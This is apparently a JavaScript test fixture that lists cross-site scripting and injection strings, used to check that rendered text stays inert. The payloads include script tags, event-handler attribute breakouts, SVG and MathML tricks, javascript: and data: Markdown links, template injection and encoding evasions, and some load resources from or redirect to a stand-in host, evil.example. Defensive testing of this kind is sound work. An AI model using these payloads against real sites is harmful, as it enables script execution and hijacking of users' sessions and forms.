const run = 'window.hostile=1;alert(1)';
const mark = 'data-hostile=1';
const elsewhere = 'https://evil.example/x';

/** Texts that would run a script, bring an element with `data-hostile`, or ask another host, where one of them is not shown as text. */
export const hostileTexts = [
	`<script ${mark}>${run}</script>`,
	`<script src="${elsewhere}.js" ${mark}></script>`,
	`<img src=x onerror="${run}" ${mark}>`,
	`"><img src=x onerror=${run} ${mark}>`,
	`' autofocus onfocus=${run} ${mark} x='`,
	`" onmouseover="${run}" style="position:fixed;inset:0" ${mark} x="`,
	`</title><script ${mark}>${run}</script>`,
	`</textarea><img src=x onerror=${run} ${mark}>`,
	`--></style></script><img src=x onerror=${run} ${mark}>`,
	`]]><img src=x onerror=${run} ${mark}>`,
	`<svg onload=${run} ${mark}><use href="${elsewhere}.svg#x"/></svg>`,
	`<svg><script>${run}</script><a xlink:href="javascript:${run}" ${mark}>x</a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror=${run} ${mark}></style></mglyph></table></mtext></math>`,
	`<iframe srcdoc="<script>parent.${run}</script>" ${mark}></iframe>`,
	`<base href="${elsewhere}" ${mark}><form action="${elsewhere}" ${mark}><button>x`,
	`<style ${mark}>@import "${elsewhere}.css"; body{display:none}</style>`,
	`<meta http-equiv=refresh content="0;url=${elsewhere}" ${mark}>`,
	`[x](javascript:${run})`,
	`[x](java&#115;cript&colon;${run} "onclick=${run}")`,
	`[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
	`![x](${elsewhere}.png "${mark}")`,
	`[x]: ${elsewhere}\n<${elsewhere}"onclick="${run}>`,
	`\`\`\`html\n<img src=x onerror=${run} ${mark}>\n\`\`\`\n<b ${mark}>`,
	`{@html '<img src=x onerror=${run} ${mark}>'} {{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %>`,
	`\u202e<\u200bscript\u200b ${mark}>${run}</script>\u2066\ufeff`,
	`\0<\0img src=x onerror=${run} ${mark}>\ud800\x1b[31m`,
	`＜script ${mark}＞${run}＜/script＞`,
	`%3Cscript%20${mark}%3E${run}%3C/script%3E &lt;img src=x onerror=${run} ${mark}&gt;`,
	`+ADw-script+AD4-${run}+ADw-/script+AD4-`,
];
